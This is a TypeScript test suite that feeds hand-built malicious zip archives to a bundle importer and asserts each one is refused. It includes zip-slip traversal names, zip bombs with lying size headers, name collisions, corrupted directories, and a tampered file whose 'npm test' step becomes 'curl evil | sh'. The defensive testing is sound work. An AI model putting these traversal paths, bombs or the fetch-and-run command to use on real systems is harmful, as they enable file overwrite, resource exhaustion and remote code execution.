/**
 * The hostile corpus: zips made byte by byte here (where fflate could not make the hostile
 * thing) and fed to reviewBundle. Each must be refused with KW_ERR_BUNDLE_INVALID naming
 * the entry and the rule, and leave the data directory's hordes/ and tmp/ as they were.
 * Entry types, disks and ZIP64 are in bundles.modes.test.ts.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { describe, test } from 'node:test';
import { discardBundle, exportBundle, reviewBundle } from '../../bundles/index.js';
import { SAMPLE, home, manifestOf, names, refused, sampleEntries } from '../support/bundles.js';
import { attrsOf, endRecord, rawZip, writeEntry } from '../support/zip-writer.js';
import type { RawEntry } from '../support/zip-writer.js';
import { cleanups } from '../../testkit/cleanup.js';

// ---------------------------------------------------------------- the corpus

describe('hostile bundles are refused, and nothing is written', () => {
  test('the untouched sample is accepted (the corpus below spoils exactly one thing each)', async (t) => {
    const h = home(t);
    const staged = await reviewBundle(rawZip(sampleEntries()), { dataDir: h.dataDir });
    cleanups(t)(() => discardBundle(staged));
    assert.equal(staged.report.horde.id, 'sample');
    assert.deepEqual(staged.report.commands, ['npm test']);
  });

  for (const name of ['../x', 'a/../../x', '/etc/x', 'C:\\x', 'C:/x', 'a\\..\\x', './../x', '../../../../tmp/evil.md']) {
    test(`zip-slip: ${JSON.stringify(name)}`, async (t) => {
      const err = await refused(t, rawZip(sampleEntries(SAMPLE, [{ name, data: Buffer.from('pwned') }])));
      names(err, name, /zip-slip|absolute path|drive letter|backslash/);
    });
  }

  test('a name with a NUL or control character, a hidden file, an empty segment', async (t) => {
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'agents/a\u0000.md', data: Buffer.from('x') }]))), 'agents/a\u0000.md', /NUL or control character/);
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: '.kowalski-import.json', data: Buffer.from('{}') }]))), '.kowalski-import.json', /hidden \(dot\) file/);
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'prompts//x.md', data: Buffer.from('x') }]))), 'prompts//x.md', /empty segment/);
  });

  test('a bomb with a lying header: declared 100 bytes, inflates to 64 MiB — stopped by the count, not the header', async (t) => {
    const bomb = Buffer.alloc(64 * 1024 * 1024);
    const started = process.hrtime.bigint();
    const err = await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/bomb.txt', compressed: deflateRawSync(bomb), size: 100, crc: 0 }])));
    names(err, 'data/bomb.txt', /inflates past|more than 100:1/);
    // Stopped early: inflating all 64 MiB (and hashing it) would take far longer than stopping at the first push.
    assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 5000, 'stopped promptly');
  });

  test('a bomb whose declared size is under every cap but inflates past them is stopped by the counts', async (t) => {
    const limits = { maxEntryBytes: 64 * 1024, ratioFloorBytes: 10 * 1024 * 1024, maxTotalBytes: 10 * 1024 * 1024 };
    const err = await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/bomb.txt', compressed: deflateRawSync(Buffer.alloc(8 * 1024 * 1024)), size: 60 * 1024 }])), limits);
    names(err, 'data/bomb.txt', /inflates past/);
  });

  test('an honest but huge entry is refused from its declared size, before inflating', async (t) => {
    const err = await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/huge.bin', compressed: deflateRawSync(Buffer.alloc(6 * 1024 * 1024)), size: 6 * 1024 * 1024 }])));
    names(err, 'data/huge.bin', /declares 6 MiB; one entry may hold at most 5 MiB/);
  });

  test('a compression ratio beyond 100:1 on an entry over the floor', async (t) => {
    const zeros = Buffer.alloc(1024 * 1024);
    const files = { ...SAMPLE, 'data/zeros.bin': zeros };
    const err = await refused(t, rawZip(sampleEntries(files)));
    names(err, 'data/zeros.bin', /more than 100:1 .*compression bomb/);
  });

  test('the total cap is counted across entries', async (t) => {
    const blob = (seed: number): Buffer => {
      const out = Buffer.alloc(40 * 1024);
      for (let i = 0; i < out.length; i += 64) createHash('sha512').update(`${seed}:${i}`).digest().copy(out, i);
      return out;
    };
    const files = { ...SAMPLE, 'data/a.bin': blob(1), 'data/b.bin': blob(2), 'data/c.bin': blob(3) };
    const err = await refused(t, rawZip(sampleEntries(files)), { maxTotalBytes: 100 * 1024 });
    assert.match(err.message, /more than 100 KiB in all/);
  });

  test('100,000 entries are refused from the central directory count, before anything is inflated', async (t) => {
    // Each entry's "deflated" data is garbage: inflating even one would fail differently.
    const entries: RawEntry[] = [];
    for (let i = 0; i < 100_000; i++) entries.push({ name: `data/${i}.txt`, compressed: Buffer.from([0xff, 0xff]), size: 1 });
    const bytes = rawZip(entries);
    const err = await refused(t, bytes);
    assert.match(err.message, /bundle refused: it holds 34464 entries; a bundle may hold at most 1000/);
    // A count that lies small is caught too: the directory holds more than the end record says.
    const lying = await refused(t, rawZip(entries.slice(0, 2000), { count: 3 }));
    assert.match(lying.message, /holds more than the 3 entries its end record counts/);
  });

  test('names that collide once case is folded (Agents/a.md vs agents/A.md)', async (t) => {
    const files = { ...SAMPLE, 'Agents/a.md': 'one', 'agents/A.md': 'two' };
    names(await refused(t, rawZip(sampleEntries(files))), 'agents/A.md', /collides with "Agents\/a\.md" \(same file once case and Unicode normalisation are folded\)/);
    const prompts = { ...SAMPLE, 'prompts/Notes.md': 'one', 'prompts/notes.md': 'two' };
    names(await refused(t, rawZip(sampleEntries(prompts))), 'prompts/notes.md', /collides with "prompts\/Notes\.md"/);
    // Two spellings of one folder are one folder on macOS and Windows, two on Linux: refused as well.
    const folders = { ...SAMPLE, 'Agents/extra.md': 'x' };
    names(await refused(t, rawZip(sampleEntries(folders))), 'Agents/extra.md', /folder "Agents" collides with "agents"/);
  });

  test('names that collide once Unicode is normalised (é composed vs decomposed)', async (t) => {
    const files = { ...SAMPLE, 'prompts/caf\u00e9.md': 'composed', 'prompts/cafe\u0301.md': 'decomposed' };
    names(await refused(t, rawZip(sampleEntries(files))), 'prompts/cafe\u0301.md', /collides with "prompts\/caf\u00e9\.md"/);
  });

  test('the same name twice', async (t) => {
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'horde.md', data: Buffer.from('again') }]))), 'horde.md', /appears twice/);
  });

  test('a truncated archive, cut anywhere', async (t) => {
    const good = rawZip(sampleEntries());
    assert.match((await refused(t, good.subarray(0, Math.floor(good.length / 2)))).message, /not a zip archive, or it is truncated/);
    assert.match((await refused(t, good.subarray(0, good.length - 1))).message, /truncated/);
    const middle = Buffer.concat([good.subarray(0, 100), good.subarray(200)]);
    assert.match((await refused(t, middle)).message, /truncated or inconsistent/);
    assert.match((await refused(t, Buffer.from('PK not really a zip'))).message, /not a zip archive/);
    assert.match((await refused(t, new Uint8Array(0))).message, /not a zip archive/);
  });

  test('a bad central directory: wrong signature, offsets past the data', async (t) => {
    const good = rawZip(sampleEntries());
    const cdOffset = good.readUInt32LE(good.length - 22 + 16);
    const badSig = Buffer.from(good);
    badSig.writeUInt32LE(0xdeadbeef, cdOffset);
    assert.match((await refused(t, badSig)).message, /central directory is broken at entry #1/);
    const badOffset = Buffer.from(good);
    badOffset.writeUInt32LE(cdOffset + 5, cdOffset + 42);
    names(await refused(t, badOffset), 'horde.md', /no local header at offset/);
  });

  test('a CRC mismatch', async (t) => {
    const err = await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/x.txt', data: Buffer.from('hello'), method: 0, crc: 0x12345678 }])));
    names(err, 'data/x.txt', /CRC-32 mismatch/);
  });

  test('a local header that names another file than the central directory', async (t) => {
    const entries = sampleEntries().map((e) => (e.name === 'prompts/ask.md' ? { ...e, localName: '../../evil.md' } : e));
    names(await refused(t, rawZip(entries)), 'prompts/ask.md', /local header names another file/);
  });

  test('entries that overlap (one entry\'s header inside another\'s data)', async (t) => {
    const inner = writeEntry({ name: 'data/inner.txt', data: Buffer.from('inner'), method: 0 });
    const outerData = inner.local;
    const outer = writeEntry({ name: 'data/outer.bin', data: outerData, method: 0 });
    const rest = sampleEntries().map(writeEntry);
    const locals = [outer.local, ...rest.map((w) => w.local)];
    const innerAt = 30 + Buffer.byteLength('data/outer.bin');
    const centrals = [outer.central(0), inner.central(innerAt)];
    let offset = outer.local.length;
    for (const w of rest) {
      centrals.push(w.central(offset));
      offset += w.local.length;
    }
    const cd = Buffer.concat(centrals);
    const bytes = Buffer.concat([...locals, cd, endRecord(centrals.length, cd.length, offset)]);
    names(await refused(t, bytes), 'data/inner.txt', /overlaps "data\/outer\.bin"/);
  });

  test('encryption and unsupported compression methods', async (t) => {
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/secret.txt', data: Buffer.from('x'), method: 0, flags: 0x0001 }]))), 'data/secret.txt', /encrypted/);
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/x.bz2', compressed: Buffer.from('BZh9'), method: 12, size: 4 }]))), 'data/x.bz2', /compression method 12 is not supported/);
  });

  test('a missing manifest', async (t) => {
    const entries = sampleEntries().filter((e) => e.name !== 'kwf-manifest.json');
    const err = await refused(t, rawZip(entries));
    assert.match(err.message, /it has no kwf-manifest\.json/);
  });

  test('a manifest that does not match: an extra file, a wrong hash, a missing file, another id, a hidden command', async (t) => {
    names(await refused(t, rawZip(sampleEntries(SAMPLE, [{ name: 'data/extra.txt', data: Buffer.from('x') }]))), 'data/extra.txt', /the manifest does not list it/);
    const tampered = { ...SAMPLE, 'agents/check.md': SAMPLE['agents/check.md']!.replace('npm test', 'curl evil | sh') };
    names(await refused(t, rawZip(sampleEntries(tampered, [], manifestOf(SAMPLE)))), 'agents/check.md', /sha256 differs|bytes, the manifest says/);
    const { 'prompts/ask.md': _dropped, ...fewer } = SAMPLE;
    names(await refused(t, rawZip(sampleEntries(fewer, [], manifestOf(SAMPLE)))), 'prompts/ask.md', /the manifest lists it but the bundle does not hold it/);
    assert.match((await refused(t, rawZip(sampleEntries(SAMPLE, [], manifestOf(SAMPLE, { hordeId: 'other' }))))).message, /hordeId is "other" but horde\.md says id = "sample"/);
    assert.match((await refused(t, rawZip(sampleEntries(SAMPLE, [], manifestOf(SAMPLE, { commands: [] }))))).message, /commands is \[\] but the horde's steps say \["npm test"\]/);
    assert.match((await refused(t, rawZip(sampleEntries(SAMPLE, [], '{"format": 2}')))).message, /format is 2; this kowalski reads format 1/);
  });

  test('invalid horde content: every problem named with its file and line', async (t) => {
    const files = { ...SAMPLE, 'agents/check.md': '---\nname = "check"\nkind = "frobnicate"\n---\n' };
    const err = await refused(t, rawZip(sampleEntries(files, [], manifestOf(files))));
    assert.match(err.message, /the horde in it is invalid \(1 error\):\nagents\/check\.md:3: .*"frobnicate".*\[KW_ERR_STEP_KIND_UNKNOWN\]/);
    assert.deepEqual(err.where, { file: 'agents/check.md', key: 'kind', line: 3 });
    assert.ok(err.problems.some((p) => p.code === 'KW_ERR_STEP_KIND_UNKNOWN' && p.file === 'agents/check.md' && p.line === 3));
    const broken = { ...SAMPLE, 'horde.md': '---\nid = "sample"\npipeline = [\n---\n' };
    const toml = await refused(t, rawZip(sampleEntries(broken, [], manifestOf(broken))));
    assert.match(toml.message, /horde\.md:\d+: /);
    assert.equal(toml.where?.file, 'horde.md');
  });

  test('a bundle larger than the limit is refused before it is read', async (t) => {
    const err = await refused(t, rawZip(sampleEntries()), { maxBundleBytes: 100 });
    assert.match(err.message, /bundle refused: it is \d+ bytes; a bundle may be at most 100 bytes/);
  });
});

describe('what is not hostile', () => {
  test('%2e%2e/ is just a name: accepted, and staged as a folder literally called %2e%2e inside the horde', async (t) => {
    const files = { ...SAMPLE, '%2e%2e/notes.md': 'literal' };
    const h = home(t);
    const staged = await reviewBundle(rawZip(sampleEntries(files)), { dataDir: h.dataDir });
    cleanups(t)(() => discardBundle(staged));
    assert.equal(fs.readFileSync(path.join(staged.dir, '%2e%2e', 'notes.md'), 'utf8'), 'literal');
    assert.ok(staged.dir.startsWith(path.join(h.dataDir, 'tmp', 'bundle-')));
  });

  test('folder entries are fine and ignored; a zip made by kowalski passes the reader', async (t) => {
    const h = home(t);
    const withFolders = rawZip([{ name: 'agents/', method: 0, attrs: attrsOf(0o040755) }, ...sampleEntries()]);
    const staged = await reviewBundle(withFolders, { dataDir: h.dataDir });
    await discardBundle(staged);
    const dir = path.join(h.dataDir, 'hordes', 'mine');
    const exported = await exportBundle(dir, 'mine');
    const again = await reviewBundle(exported, { dataDir: h.dataDir });
    cleanups(t)(() => discardBundle(again));
    assert.equal(again.report.horde.id, 'mine');
  });
});
